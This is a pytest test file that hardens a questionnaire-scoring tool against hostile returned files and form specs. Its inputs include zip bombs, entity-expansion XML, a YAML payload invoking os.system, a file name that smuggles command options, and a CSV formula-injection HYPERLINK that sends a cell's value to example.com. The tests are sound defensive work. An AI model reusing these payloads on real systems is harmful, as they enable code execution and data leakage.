"""Hostile and broken inputs (tests/corpus): every returned file and form spec gets its
coded outcome, the batch goes on, nothing is evaluated or executed, memory stays bounded.

The corpus and its expected outcomes are written by ``tests/corpus/make_corpus.py``; the big
cases (zip bomb, 1,000,000-row sheet...) and odd file names are generated here, in a
temporary folder, by the same functions.
"""

from __future__ import annotations

import csv
import importlib.util
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest

import instrument.returns as returns_mod
from instrument.form import FormError, load_form
from instrument.returns import Expected, read_file, read_returns
from instrument.scoring import score_returns

ROOT = Path(__file__).resolve().parents[1]
CORPUS = ROOT / "tests" / "corpus"
SPEC = ROOT / "data_samples" / "form_member.yaml"
MB = 2**20
SUBFOLDERS = ("returned", "specs", "keys", "data")


def _load_maker():
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS / "make_corpus.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


MAKER = _load_maker()


@pytest.fixture(scope="module")
def form():
    return load_form(SPEC)


@pytest.fixture(scope="module")
def expected_rows() -> list[dict]:
    with open(CORPUS / "expected.csv", encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> Path:
    """The cases generated at test time (big files, odd names), in one temporary folder."""
    folder = tmp_path_factory.mktemp("generated")
    for name in sorted(MAKER.GENERATED):
        MAKER.build(name, folder)
    return folder


@pytest.fixture(scope="module")
def batch(form, generated, tmp_path_factory):
    """Every returned file of the corpus (committed and generated) read as ONE batch."""
    folder = tmp_path_factory.mktemp("batch")
    for src in (CORPUS / "returned", generated / "returned"):
        for p in src.iterdir():
            shutil.copy(p, folder / p.name)
    return read_returns([folder], form, jobs=1)


def name(path: str) -> str:
    return Path(path).name


# ----------------------------------------------------------------------------- the corpus
def test_corpus_lists_every_file_and_at_least_30_kinds(expected_rows):
    listed = {r["file"] for r in expected_rows if not r["generated"]}
    on_disk = {f"{sub}/{p.name}" for sub in SUBFOLDERS for p in (CORPUS / sub).iterdir()}
    assert listed == on_disk
    assert len(expected_rows) >= 60 and len({r["file"].split("/")[1].split(".")[0] for r in expected_rows}) >= 30
    statuses = {r["status"] for r in expected_rows}
    assert statuses == {"scored", "scored-with-issues", "rejected", "form-error", "keys-error", "data-error", "data-read"}
    assert sum(p.stat().st_size for p in CORPUS.rglob("*") if p.is_file()) < 1.2 * MB  # kept small
    # every kind the hardening issue names is there
    wanted = {"not-a-zip", "truncated", "xls-renamed", "xlsm-renamed", "ods-renamed", "zip-bomb",
              "billion-laughs-shared-strings", "billion-laughs-sheet", "huge-sheet-1e6-rows", "meta-deleted",
              "meta-hash-edited", "other-form-version", "merged-answer", "answer-moved", "formula", "formula-xlfn",
              "formula-array", "formula-shared", "external-link", "date-in-answer", "text-in-number", "empty",
              "duplicate-a", "csv-cp1252", "csv-nul", "csv-formula-injection", "ten-thousand-sheets",
              "long-sheet-name", "password-protected", "answer-sheet-renamed", "zip-absolute-path", "zip-dotdot",
              "zip-symlink", "zip-duplicate-member", "anchor-bomb", "python-tag", "not-utf8", "huge",
              "deep-nesting"}
    kinds = {r["file"].split("/")[1].rsplit(".", 1)[0] for r in expected_rows}
    assert wanted <= kinds, wanted - kinds


def test_corpus_script_is_deterministic(tmp_path):
    MAKER.main(tmp_path)
    for p in (CORPUS / "returned").iterdir():
        assert (tmp_path / "returned" / p.name).read_bytes() == p.read_bytes(), p.name
    for sub in SUBFOLDERS:
        for p in (CORPUS / sub).iterdir():
            assert (tmp_path / sub / p.name).read_bytes() == p.read_bytes(), p.name
    assert (tmp_path / "expected.csv").read_bytes() == (CORPUS / "expected.csv").read_bytes()


def test_every_returned_file_gets_its_coded_outcome_and_the_batch_goes_on(batch, expected_rows):
    files = batch.files.assign(name=batch.files["file"].map(name)).set_index("name")
    codes: dict[str, set] = {}
    for p in batch.problems:
        codes.setdefault(name(p.file), set()).add(p.code)
        assert p.code and p.message, p  # every problem has a stable code and a message
    rows = [r for r in expected_rows if r["file"].startswith("returned/")]
    assert len(files) == len(rows)  # every file accounted for, odd names included
    for row in rows:
        file = row["file"].split("/", 1)[1]
        got = files.loc[file]
        assert got["status"] == row["status"], (file, got["message"])
        if row["status"] == "rejected":
            assert got["code"] == row["code"] and got["message"], (file, got["code"], got["message"])
            assert got["respondents"] == 0
        elif row["code"]:
            assert row["code"] in codes.get(file, set()), (file, codes.get(file))
        else:
            assert not codes.get(file), (file, codes.get(file))
    assert batch.n_scored + batch.n_rejected == batch.n_files
    assert max(len(p.message) for p in batch.problems) < 1000  # a hostile cell never bloats the log
    assert batch.n_scored >= 15 and batch.n_rejected >= 30
    log = batch.log()  # one row per file, then one per problem that is not a rejected file's own reason
    reasons = {(r.file, r.code, r.message) for r in batch.files.itertuples() if r.status == "rejected"}
    kept = [p for p in batch.problems if (p.file, p.code, p.message) not in reasons]
    assert len(log) == batch.n_files + len(kept) and (log["code"].iloc[batch.n_files:] != "").all()


def test_odd_file_names_are_read_and_named_as_they_are(batch, generated):
    odd = [n.split("/", 1)[1] for n, (_s, _c, what, _b) in MAKER.CASES.items() if "odd file name" in what]
    assert len(odd) == 6
    names = set(batch.files["file"].map(name))
    for n in odd:
        assert n in names and (generated / "returned" / n).is_file()
    assert "saut\nde ligne.xlsx" in names or sys.platform == "win32"
    assert "-rf --help.xlsx" in names


@pytest.mark.parametrize("case", sorted(n for n in MAKER.CASES if n.startswith("specs/")))
def test_every_spec_gives_its_coded_form_error_and_nothing_runs(case, generated, monkeypatch, tmp_path):
    status, code, _what, _build = MAKER.CASES[case]
    assert status == "form-error"

    def boom(*args, **kwargs):
        raise AssertionError(f"a YAML spec made the loader run a command: {args!r}")

    for owner, attr in ((os, "system"), (os, "popen"), (subprocess, "Popen"), (subprocess, "run"), (os, "execv")):
        monkeypatch.setattr(owner, attr, boom)
    path = (generated if case in MAKER.GENERATED else CORPUS) / case
    with pytest.raises(FormError) as info:
        load_form(path)
    found = {p.code for p in info.value.problems}
    assert code in found, found
    assert all(p.file for p in info.value.problems)
    assert not Path("/tmp/intangibles-pwned").exists()


def test_python_tag_never_calls_os_system(monkeypatch, tmp_path):
    """The payload itself, through both loaders (libyaml and pure Python): os.system is
    replaced by a function that fails loudly, and is never reached."""
    calls = []
    monkeypatch.setattr(os, "system", lambda *a: calls.append(a) or pytest.fail("os.system was called"))
    spec = tmp_path / "spec.yaml"
    spec.write_text("id: !!python/object/apply:os.system ['echo owned']\nversion: '1'\n", encoding="utf-8")
    from psychometrics import userfile as yamlfile

    for loader in (None, yamlfile._Loader):
        problems = []
        data = yamlfile.read_yaml(spec, "spec.yaml", lambda *p, found=problems: found.append(p), loader=loader)
        assert data is yamlfile.UNREADABLE and [p[0] for p in problems] == ["unsafe-yaml"]
    with pytest.raises(FormError):
        load_form(spec)
    assert calls == []


@pytest.mark.parametrize("case", sorted(n for n in MAKER.CASES if n.startswith("keys/")))
def test_every_keys_file_gives_a_coded_refusal_and_nothing_runs(case, monkeypatch):
    """Keys files go through the one safe loader of user files: an alias bomb, 5,000 nested
    JSON or YAML lists, a Python tag: a coded KeysError, not MemoryError/RecursionError."""
    import psychometrics as pm
    from psychometrics.keys import KeysError

    status, code, _what, _build = MAKER.CASES[case]
    assert status == "keys-error"
    monkeypatch.setattr(os, "system", lambda *a: pytest.fail("os.system was called"))
    with pytest.raises(KeysError) as info:
        pm.load_keys(CORPUS / case)
    assert info.value.code == "unreadable-keys" and f"{code}:" in str(info.value), str(info.value)
    assert len(str(info.value)) < 1000


DATA_SCRIPT = textwrap.dedent("""
    import json, sys
    from instrument.datafile import DataError, read_data

    out = {}
    for path in sys.argv[1:]:
        try:
            read_data(path)
            out[path] = ""
        except DataError as exc:
            out[path] = exc.code
    print(json.dumps(out))
""")


def test_every_data_file_of_validate_gets_the_workbook_checks():
    """validate's .xlsx data files go through instrument.workbook like returned workbooks: a
    far-away cell or a declared-count bomb used to abort the process (run in a subprocess,
    so an abort fails this test instead of killing pytest)."""
    cases = {n: c for n, (s, c, _w, _b) in MAKER.CASES.items() if s in ("data-error", "data-read")}
    assert len(cases) >= 3
    run = subprocess.run([sys.executable, "-c", DATA_SCRIPT, *(str(CORPUS / n) for n in cases)],
                         capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert run.returncode == 0, run.stderr[-2000:]
    got = json.loads(run.stdout)
    assert {Path(p).relative_to(CORPUS).as_posix(): c for p, c in got.items()} == cases


def test_calamine_reads_only_the_parts_the_checks_read(form, monkeypatch):
    """Defence in depth: even with the Unicode-path check switched off, python-calamine is
    fed a new zip of the checked parts only, so the decoy (a formula with a cached 1, or a
    cell at XFD1048576) is never read: the real answer sheet is."""
    import instrument.workbook as workbook_mod

    monkeypatch.setattr(workbook_mod, "_unicode_path", lambda _extra: None)
    expected = Expected.from_form(form)
    for file in ("zip-unicode-path-decoy.xlsx", "zip-unicode-path-far-cell.xlsx"):
        result = read_file(CORPUS / "returned" / file, expected)
        assert result.status == "scored", (file, result.message)
        assert result.rows[0]["trcpi1"] == 4  # the real sheet's "4 - Plutôt d'accord", not the decoy's 1


@pytest.mark.skipif(sys.platform == "win32", reason="FIFOs and /dev/zero are POSIX")
def test_every_entry_of_a_folder_gets_a_row_and_deep_folders_are_listed(form, tmp_path, monkeypatch):
    """A FIFO, a dangling link, a link to a device, a link to a folder: each its own coded
    row (they were silently skipped; opening the FIFO would hang); a return 1,100 folders
    deep is found (the recursive listing raised RecursionError and lost the batch); a folder
    that cannot be opened gets an ``unreadable-folder`` row (simulated: root reads anything)."""
    deep = MAKER.special_entries(tmp_path)
    locked = tmp_path / "locked"
    locked.mkdir()
    shutil.copy(ROOT / "data_samples" / "returned" / "member_R101_fr.xlsx", locked / "R101.xlsx")
    real_scandir = os.scandir

    def scandir(path="."):
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    batch = read_returns([tmp_path], form, jobs=1)
    rows = {Path(f).relative_to(tmp_path).parts[0]: (s, c) for f, s, c in
            zip(batch.files["file"], batch.files["status"], batch.files["code"], strict=True)}
    for entry, code in MAKER.SPECIAL.items():
        if code:
            assert rows[entry] == ("rejected", code), (entry, rows.get(entry))
    assert rows["locked"] == ("rejected", "unreadable-folder")
    assert str(deep) in set(batch.files["file"]) and rows["deep"] == ("scored", "")
    assert batch.n_files == len(MAKER.SPECIAL) + 1 and batch.n_scored + batch.n_rejected == batch.n_files
    MAKER.remove_deep(deep)


# ----------------------------------------------------------------------------- nothing evaluated
FORMULA_CASES = {  # file -> the answer cells holding a formula (each with a cached value of 4)
    "formula.xlsx": {"trcpi1"}, "formula-xlfn.xlsx": {"trcpi1"}, "formula-array.xlsx": {"trcpi1"},
    "formula-shared.xlsx": {"trcpi1", "trcpi4", "trcpi5"}, "formula-single-quotes.xlsx": {"trcpi1"},
    "formula-prefixed.xlsx": {"trcpi1"}, "formula-no-position.xlsx": {"trcpi1"},
}


@pytest.mark.parametrize("file", sorted(FORMULA_CASES))
def test_a_formulas_cached_value_never_reaches_the_scores(form, file):
    expected = Expected.from_form(form)
    result = read_file(CORPUS / "returned" / file, expected)
    refused = {p.item for p in result.problems if p.code == "formula-in-answer"}
    assert refused == FORMULA_CASES[file] and result.status == "scored-with-issues"
    row = result.rows[0]
    assert all(row[item] is None for item in refused)  # not 4, the cached value
    # the same workbook with those cells blank scores exactly the same
    returned = read_returns([CORPUS / "returned" / file], form, jobs=1)
    table = score_returns(returned, form)
    clean = read_returns([ROOT / "data_samples" / "returned" / "member_R101_fr.xlsx"], form, jobs=1)
    blanked = clean.responses.copy()
    for item in refused:
        blanked[item] = pd.array([None], dtype="Int64")
    truth = score_returns(type(clean)(responses=blanked, files=clean.files, problems=()), form)
    scales = [s.name for s in form.scales]
    pd.testing.assert_frame_equal(table[scales].reset_index(drop=True), truth[scales].reset_index(drop=True))
    # and it differs from what the cached 4 would give (so the test cannot pass vacuously)
    cached = clean.responses.copy()
    for item in refused:
        cached[item] = pd.array([4], dtype="Int64")
    with_cache = score_returns(type(clean)(responses=cached, files=clean.files, problems=()), form)
    assert not with_cache[scales].equals(truth[scales])


def test_external_links_are_never_followed(form, monkeypatch):
    """Reading a workbook that links to file:///C:/secret/... opens no other file."""
    import builtins

    opened = []
    real_open = builtins.open

    def spy(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spy)
    path = CORPUS / "returned" / "external-link.xlsx"
    result = read_file(path, Expected.from_form(form))
    assert result.status == "scored" and [p.code for p in result.problems] == ["external-link"]
    assert all("secret" not in f for f in opened)


#: a column case -> what its verdict must say (the change, with the header labels the sheet
#: carries) and where the first item's answer is now
COLUMN_CASES = {
    "column-inserted.xlsx": ("columns C ('Énoncé') to D ('Votre réponse') moved 1 column to the right "
                             "(1 column inserted before column C)", "E15"),
    "column-deleted.xlsx": ("column D ('Votre réponse') moved 1 column to the left (column C ('Énoncé') deleted)",
                            "C15"),
    "columns-swapped-code-answer.xlsx": ("columns B ('Code') and D ('Votre réponse') swapped", "B15"),
    "column-answers-deleted.xlsx": ("the answer column D ('Votre réponse') was deleted", None),
    "columns-swapped-number-answer.xlsx": ("columns A ('N°') and D ('Votre réponse') swapped", "A15"),
}


@pytest.mark.parametrize("file", sorted(COLUMN_CASES))
def test_moved_columns_get_a_verdict_that_says_what_happened(form, file):
    """A column inserted, deleted or swapped: ``layout-changed`` naming the columns by the
    header labels the workbook carries and where trcpi1's answer is now, before any answer is
    read (no stray ``invalid-answer`` from the shifted cells). It was ``empty-response`` ("no
    answer in this file"), a generic message, or, with the numbers' column on the answers,
    items 1-5 scored with their own numbers."""
    change, now = COLUMN_CASES[file]
    result = read_file(CORPUS / "returned" / file, Expected.from_form(form))
    assert result.status == "rejected" and result.code == "layout-changed", result.message
    assert change in result.message and (now is None or f"trcpi1: {now}, not D15" in result.message), result.message
    assert [(p.code, p.sheet, p.cell, p.item) for p in result.problems] == [
        ("layout-changed", "Questionnaire", "D12", "trcpi1")]


def test_columns_that_leave_the_answers_in_place_are_read(form):
    """The codes' and the statements' columns swapped: every answer is still in its cell,
    beside its code, so the file is scored as the clean one is."""
    expected = Expected.from_form(form)
    swapped = read_file(CORPUS / "returned" / "columns-swapped-code-statement.xlsx", expected)
    clean = read_file(ROOT / "data_samples" / "returned" / "member_R101_fr.xlsx", expected)
    assert swapped.status == "scored" and not swapped.problems
    assert {k: v for k, v in swapped.rows[0].items() if k in form.item_ids} == {
        k: v for k, v in clean.rows[0].items() if k in form.item_ids}


def test_blank_cells_far_away_do_not_count_and_calamine_reads_only_values(form):
    """A space typed in XFD81 (inline, or a blank shared string as Excel saves it) and an empty
    styled cell at XFD1048576 are not data: the return is scored like the clean one (it was
    refused whole as sheet-too-large); python-calamine reads the sheet rewritten with the
    cells holding a value, so its grid ends at column D. A real value there is still too far,
    and the refusal names its cell."""
    from instrument.workbook import Workbook

    expected = Expected.from_form(form)
    clean = read_file(ROOT / "data_samples" / "returned" / "member_R101_fr.xlsx", expected)
    for file in ("stray-space-far.xlsx", "stray-space-shared-string.xlsx"):
        result = read_file(CORPUS / "returned" / file, expected)
        assert result.status == "scored" and not result.problems, (file, result.message)
        assert {i: result.rows[0][i] for i in form.item_ids} == {i: clean.rows[0][i] for i in form.item_ids}
        grid = Workbook((CORPUS / "returned" / file).read_bytes()).read("Questionnaire").grid
        assert len(grid) == 81 and max(map(len, grid)) == 4, file
    far = read_file(CORPUS / "returned" / "value-far-away.xlsx", expected)
    assert far.code == "sheet-too-large" and "XFD81" in far.message and far.problems[-1].cell == "XFD81"


# ----------------------------------------------------------------------------- the commands
#: runs a command and prints its exit status and the peak RSS (kB) of it and its children
PEAK = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:], capture_output=True, text=True, "
        "timeout=900); sys.stderr.write(r.stdout + r.stderr); "
        "print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")


def run_command(*args, cwd=ROOT) -> tuple[int, float, str]:
    """``intangibles ARGS`` in a fresh process: (exit status, peak RSS in MB, what it printed)."""
    cli = [sys.executable, "-c", "from instrument.cli import main; main()", *map(str, args)]
    run = subprocess.run([sys.executable, "-c", PEAK, *cli], capture_output=True, text=True, timeout=1000, cwd=cwd,
                         env={**os.environ, "COLUMNS": "300"})
    status, peak = run.stdout.split()
    return int(status), int(peak) / 1024, run.stderr


@pytest.mark.slow
def test_validate_gives_a_coded_error_on_every_hostile_data_or_keys_file(tmp_path):
    """Done when (issue 14): no input makes ``validate`` print a traceback, abort, hang or
    exceed 1.5 GB. Every data file and keys file of the corpus through the real command, each
    in its own process: a refusal is exit status 1 or 2 with its code on the terminal; the
    data file that is fine (a stray space far away) gives its report."""
    keys = tmp_path / "keys.json"
    keys.write_text('{"scales": {"TRU": ["TRU1", "TRU2", "TRU3", "TRU4"]}, "min": 1, "max": 5}', encoding="utf-8")
    good = CORPUS / "data" / "stray-space-far.xlsx"
    cases = [(CORPUS / n, keys, c) for n, (s, c, _w, _b) in MAKER.CASES.items() if s in ("data-error", "data-read")]
    cases += [(good, CORPUS / n, c) for n, (s, c, _w, _b) in MAKER.CASES.items() if s == "keys-error"]
    for k, (data, keys_file, code) in enumerate(cases):
        status, peak, printed = run_command("validate", data, "--keys", keys_file, "--out", tmp_path / f"out{k}",
                                            "--lang", "en")
        assert "Traceback" not in printed and peak < 1536, (data.name, keys_file.name, peak, printed[-2000:])
        if code:
            assert status in (1, 2) and f"{code}:" in printed, (data.name, keys_file.name, status, printed[-2000:])
        else:
            assert status == 0 and (tmp_path / f"out{k}" / "results.json").is_file(), printed[-2000:]


@pytest.mark.slow
def test_score_logs_every_hostile_file_without_a_traceback(tmp_path):
    """The same for ``score`` on every committed returned file of the corpus, as one batch in
    worker processes (the default): no traceback, under 1.5 GB, one log row per file."""
    status, peak, printed = run_command("score", CORPUS / "returned", "--form", SPEC, "--out", tmp_path / "s.csv",
                                        "--log", tmp_path / "log.csv", "--jobs", "2")
    assert status in (0, 1) and "Traceback" not in printed and peak < 1536, (status, peak, printed[-2000:])
    log = pd.read_csv(tmp_path / "log.csv", dtype=str, keep_default_na=False)
    files = {p.name for p in (CORPUS / "returned").iterdir()}
    assert set(log["file"].map(name)) == files and log["status"].ne("").all()


# ----------------------------------------------------------------------------- memory
MEMORY_SCRIPT = textwrap.dedent("""
    import json, sys
    from instrument.form import load_form
    from instrument.returns import Expected, read_file

    def status(key):  # kB, from /proc/self/status
        with open("/proc/self/status") as fh:
            return next(int(line.split()[1]) for line in fh if line.startswith(key + ":"))

    expected = Expected.from_form(load_form(sys.argv[1]))
    read_file(sys.argv[2], expected)  # warm up: every import and cache, a clean workbook read
    out = {}
    for path in sys.argv[3:]:
        before = status("VmRSS")
        with open("/proc/self/clear_refs", "w") as fh:  # reset the peak (VmHWM) to the current RSS
            fh.write("5")
        result = read_file(path, expected)
        out[path] = [result.code, (status("VmHWM") - before) / 1024]
    print(json.dumps(out))
""")


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="needs Linux's /proc peak-RSS reset")
def test_memory_stays_bounded_on_bombs_and_huge_sheets(generated):
    """Peak resident memory (getrusage, so calamine's Rust allocations count too) of a fresh
    process reading each bomb, above its baseline after reading a clean workbook: < 100 MB.
    Also for the largest sheet accepted (480,000 cells, read in full by calamine)."""
    cases = {
        "zip-bomb.xlsx": "zip-bomb", "huge-sheet-1e6-rows.xlsx": "sheet-too-large",
        "many-merges.xlsx": "sheet-too-large", "large-accepted-sheet.xlsx": "",  # read: 480,000 cells
        "huge-csv.csv": "sheet-too-large", "zip-many-entries.xlsx": "zip-bomb",
        "huge-text-cell.xlsx": "invalid-answer",  # read, the cell refused: the text once in calamine, once in Python
    }
    committed = {
        "far-apart-cells.xlsx": "sheet-too-large", "shared-strings-count-bomb.xlsx": "sheet-too-large",
        "billion-laughs-shared-strings.xlsx": "xml-entities", "billion-laughs-sheet.xlsx": "xml-entities",
        "ten-thousand-sheets.xlsx": "too-many-sheets",
        "fuzz-crash-3a078c.xlsx": "corrupt-file", "fuzz-oom-097a179f.xlsx": "corrupt-file",  # aborted before
        "zip-unicode-path-far-cell.xlsx": "unsafe-zip",  # aborted before (the decoy's far cell)
        "stray-space-shared-string.xlsx": "", "value-far-away.xlsx": "sheet-too-large",  # the exact pass
    }
    paths = [str(generated / "returned" / n) for n in cases] + [str(CORPUS / "returned" / n) for n in committed]
    sizes = {n: (generated / "returned" / n).stat().st_size for n in cases}
    assert sizes["zip-bomb.xlsx"] < 2 * MB and sizes["huge-sheet-1e6-rows.xlsx"] < 8 * MB
    run = subprocess.run(
        [sys.executable, "-c", MEMORY_SCRIPT, str(SPEC), str(ROOT / "data_samples" / "returned" / "member_R101_fr.xlsx"),
         *paths], capture_output=True, text=True, timeout=300, check=True, cwd=ROOT,
    )
    out = json.loads(run.stdout)
    for path, (code, grown_mb) in out.items():
        assert code == {**cases, **committed}[Path(path).name], path
        assert grown_mb < 100, (Path(path).name, grown_mb)


def test_the_huge_sheet_is_what_it_claims(generated):
    """The 1,000,000-row case really expands to ~40 MB of XML (under the part limit, so the
    cell-area bound is what refuses it) and its rows go to 1,000,000."""
    import zipfile

    with zipfile.ZipFile(generated / "returned" / "huge-sheet-1e6-rows.xlsx") as z:
        info = z.getinfo(MAKER.SHEET)
        assert 30 * MB < info.file_size < returns_mod.MAX_MEMBER_BYTES
        assert info.file_size / info.compress_size < returns_mod.MAX_RATIO
        with z.open(info) as fh:
            fh.seek(info.file_size - 200)
            assert b'<row r="1000000">' in fh.read()
    with zipfile.ZipFile(generated / "returned" / "zip-bomb.xlsx") as z:
        assert z.getinfo(MAKER.SHEET).file_size > 250 * MB


def test_a_rust_panic_rejects_the_file_instead_of_stopping_the_batch(form, tmp_path, monkeypatch):
    """pyo3's PanicException derives from BaseException, not Exception."""
    import python_calamine as pc

    class PanicException(BaseException):
        pass

    def panic(*_a, **_k):
        raise PanicException("called `Option::unwrap()` on a `None` value")

    monkeypatch.setattr(pc.CalamineWorkbook, "from_filelike", panic)
    result = read_returns([ROOT / "data_samples" / "returned" / "member_R101_fr.xlsx"], form, jobs=1)
    assert list(result.files["status"]) == ["rejected"] and result.files["code"].iloc[0] == "unreadable-file"
    assert "PanicException" in result.files["message"].iloc[0]


def test_the_score_command_on_the_corpus_logs_every_file_and_neutralizes_codes(tmp_path, expected_rows):
    """``intangibles score tests/corpus/returned --out scores.csv``: the batch goes on to the
    end, the log lists every file with its code, and the formula-like respondent codes of
    csv-formula-injection.csv come out neutralized."""
    import io

    from rich.console import Console

    from instrument.scoring import score_command

    out = tmp_path / "scores.csv"
    console = Console(file=io.StringIO(), width=200)
    assert score_command([CORPUS / "returned"], form=SPEC, out=out, jobs=1, console=console) == 0
    log = pd.read_csv(tmp_path / "scores-log.csv", dtype=str, keep_default_na=False)
    committed = [r for r in expected_rows if r["file"].startswith("returned/") and not r["generated"]]
    head = log.iloc[: len(committed)]
    assert sorted(head["file"].map(name)) == sorted(r["file"].split("/", 1)[1] for r in committed)
    for row in committed:
        got = head[head["file"].map(name) == row["file"].split("/", 1)[1]].iloc[0]
        assert got["status"] == row["status"]
        if row["status"] == "rejected":
            assert got["code"] == row["code"]
    scores = pd.read_csv(out, dtype=str, keep_default_na=False)
    injected = scores[scores["source_file"].str.endswith("csv-formula-injection.csv")]
    assert sorted(injected["respondent"]) == sorted(["'" + c for c in ['=HYPERLINK("http://example.com/?"&A1,"x")',
                                                                       "+W05", "-W06", "@W07"]])
    assert set(injected["consortium_id"]) == {"'=1+1"}
    assert "in = " in console.file.getvalue()
